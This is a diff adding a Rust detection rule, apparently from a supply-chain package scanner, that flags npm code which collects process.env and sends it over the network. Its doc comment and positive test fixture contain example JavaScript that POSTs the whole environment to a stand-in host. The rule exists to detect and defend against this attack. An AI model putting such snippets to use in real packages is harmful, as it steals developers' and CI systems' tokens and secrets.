@@ -1,0 +1,113 @@
+//! `code/env-exfiltration`.
+
+use super::{SENDS, chain, finding, locality, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// The whole environment (or every secret-looking variable) is collected in a package that sends data out.
+    ///
+    /// ## What it detects
+    /// `process.env` serialised as a whole (`JSON.stringify(process.env)`; `Object.assign({}, process.env)` or
+    /// `{...process.env}` stored in an object next to host or user details; `Object.entries(process.env)` /
+    /// `for…in` iteration filtered by secret-looking names such as `/TOKEN|SECRET/`) together
+    /// with a network sink; strongest in the same function or file.
+    ///
+    /// ## Why it matters
+    /// CI and developer environments hold registry, cloud and GitHub tokens; the crossenv typosquats (2017) and
+    /// many dependency-confusion probes simply POST `process.env`.
+    ///
+    /// ## Example
+    /// `https.request(u).end(JSON.stringify(process.env))`
+    ///
+    /// ## Known false positives
+    /// dotenv-style loaders iterate `process.env` without a network sink (not reported); spawning a child with
+    /// `{ env: process.env }` is recognised and skipped; crash reporters that attach the whole environment are
+    /// reported, on purpose.
+    pub static ENV_EXFILTRATION = { id: "code/env-exfiltration", severity: Severity::Critical };
+}
+
+/// One finding per env dump in a package with a network sink.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = per_signal(p, Kind::EnvDump, |f, s| report(p, f, s));
+    out.extend(per_signal(p, Kind::EnvIterate, |f, s| {
+        // Iterating the environment is ordinary (prefix filters, dotenv); iterating it with a
+        // secret-name filter in the same function is harvesting.
+        if !f.has_in(Kind::EnvSecretFilter, s.func) {
+            return None;
+        }
+        report(p, f, s)
+    }));
+    out
+}
+
+fn report(
+    p: &PackageFacts,
+    f: &crate::signal::FileFacts,
+    s: &crate::signal::Signal,
+) -> Option<CodeFinding> {
+    {
+        let loc = locality(p, f, s, SENDS);
+        if loc == Locality::Alone {
+            return None;
+        }
+        let filtered = f.has(Kind::EnvSecretFilter);
+        let sev = if loc >= Locality::File {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        let msg = format!(
+            "environment collected ({}{}) and sent out",
+            s.detail,
+            if filtered {
+                ", filtered for secrets"
+            } else {
+                ""
+            }
+        );
+        Some(finding(
+            &ENV_EXFILTRATION,
+            sev,
+            f,
+            s,
+            loc,
+            msg,
+            chain(p, f, s, &[Kind::Network, Kind::EnvSecretFilter]),
+        ))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    #[test]
+    fn positive() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const http = require('http');\nfunction go() {\n  const body = JSON.stringify(process.env);\n  http.request({ host: 'x.example.net', method: 'POST' }).end(body);\n}\ngo();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("a.js".to_string(), 3)]
+        );
+    }
+
+    #[test]
+    fn negative_spawn_env() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const https = require('https');\nconst cp = require('child_process');\ncp.spawn('node', ['x'], { env: Object.assign({}, process.env, { A: '1' }), stdio: 'inherit' });\nhttps.get('https://registry.npmjs.org/');\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/env-exfiltration").is_empty());
+    }
+}
